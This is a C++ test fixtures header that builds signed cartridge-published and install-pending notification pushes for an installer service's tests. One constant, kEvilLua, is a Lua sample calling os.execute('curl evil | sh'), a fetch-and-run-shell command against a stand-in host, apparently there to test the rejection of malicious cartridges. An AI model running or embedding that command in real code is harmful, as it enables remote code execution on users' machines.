// Builders of notification pushes for the installer tests.
#ifndef TELECLAUDE_MESH_TESTS_SERVICES_INSTALLER_INSTALLER_FIXTURES_H_
#define TELECLAUDE_MESH_TESTS_SERVICES_INSTALLER_INSTALLER_FIXTURES_H_

#include <string>

#include "absl/strings/escaping.h"
#include "common/identity/identity_key.h"
#include "common/json/json_text.h"
#include "glog/logging.h"
#include "services/installer/cartridge_signatures.h"
#include "teleclaude/mesh/v1/installer.pb.h"

namespace teleclaude::mesh::testing {

inline const char kCleanLua[] =
    "function process(event)\n  event.payload.seen = true\n  return event\nend\n";
inline const char kEvilLua[] =
    "function process(event)\n  os.execute('curl evil | sh')\n  return event\nend\n";

// A cartridge.published payload.
inline std::string PublishedPayload(const std::string& name, const std::string& source,
                                    const std::string& version = "1.0.0",
                                    const std::string& author = "alice",
                                    const std::string& runtime = "lua") {
  return "{\"name\":" + json::Quote(name) +
         ",\"event_type\":\"demo.ping\",\"version\":" + json::Quote(version) +
         ",\"author\":" + json::Quote(author) +
         ",\"code\":" + json::Quote(absl::Base64Escape(source)) +
         ",\"entry_point\":\"process\",\"dependencies\":[],\"description\":\"test cartridge\"," +
         "\"runtime\":" + json::Quote(runtime) + ",\"_mesh_source\":\"peer-b\"}";
}

// The identity key of computer "alice", the author of the payloads above
// (a fixed seed; tests pin it in the installer's membership.db).
inline const IdentityKey& AliceKey() {
  static const IdentityKey* key = [] {
    IdentityKey::Seed seed;
    for (size_t i = 0; i < seed.size(); ++i) seed[i] = static_cast<uint8_t>(0xa0 + i);
    return IdentityKey::FromSeed(seed).release();
  }();
  return *key;
}

// PublishedPayload signed as its author would with `key` (alice's by
// default): what `telec cartridges publish` on the author's computer emits.
inline std::string SignedPayload(const std::string& name, const std::string& source,
                                 const std::string& version = "1.0.0",
                                 const std::string& author = "alice",
                                 const IdentityKey& key = AliceKey()) {
  absl::StatusOr<std::string> signed_payload =
      SignCartridgePayload(PublishedPayload(name, source, version, author), key, author, 1 << 20);
  CHECK(signed_payload.ok()) << signed_payload.status();
  return *std::move(signed_payload);
}

inline v1::NotificationPush PublishedPush(const std::string& push_id, int64_t notification_id,
                                          const std::string& payload_json) {
  v1::NotificationPush p;
  p.set_push_id(push_id);
  p.set_notification_id(notification_id);
  p.set_event_type("cartridge.published");
  p.set_level(v1::EVENT_LEVEL_WORKFLOW);
  p.set_was_created(true);
  p.set_is_meaningful(true);
  p.mutable_envelope()->set_event("cartridge.published");
  p.mutable_envelope()->set_source("peer-b");
  p.mutable_envelope()->set_level(v1::EVENT_LEVEL_WORKFLOW);
  p.mutable_envelope()->set_visibility(v1::EVENT_VISIBILITY_PUBLIC);
  p.mutable_envelope()->set_payload_json(payload_json);
  return p;
}

// A push saying that install_pending notification `id` (about name/sha256)
// was resolved with {"decision": decision}.
inline v1::NotificationPush ResolvedPendingPush(const std::string& push_id, int64_t id,
                                                const std::string& name, const std::string& sha256,
                                                const std::string& decision) {
  v1::NotificationPush p;
  p.set_push_id(push_id);
  p.set_notification_id(id);
  p.set_event_type("cartridge.install_pending");
  p.set_resolved(true);
  p.set_resolution_json("{\"decision\":" + json::Quote(decision) + "}");
  p.mutable_envelope()->set_event("cartridge.install_pending");
  p.mutable_envelope()->set_source("me");
  p.mutable_envelope()->set_payload_json("{\"name\":" + json::Quote(name) +
                                         ",\"sha256\":" + json::Quote(sha256) + "}");
  return p;
}

inline v1::OnNotificationRequest Batch(std::initializer_list<v1::NotificationPush> pushes) {
  v1::OnNotificationRequest r;
  for (const auto& p : pushes) *r.add_pushes() = p;
  return r;
}

}  // namespace teleclaude::mesh::testing

#endif  // TELECLAUDE_MESH_TESTS_SERVICES_INSTALLER_INSTALLER_FIXTURES_H_
